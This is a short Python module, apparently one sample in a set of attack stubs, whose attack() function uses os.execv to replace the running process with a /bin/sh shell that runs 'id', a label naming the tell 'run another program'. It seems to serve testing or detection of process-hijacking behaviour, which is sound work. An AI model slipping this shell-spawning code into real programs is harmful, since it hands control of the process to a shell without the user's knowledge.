"""Become another program, with the link still open."""

import os

TELLS = "run another program"


def attack(*arguments, **named):
    os.execv("/bin/sh", ["sh", "-c", "id"])
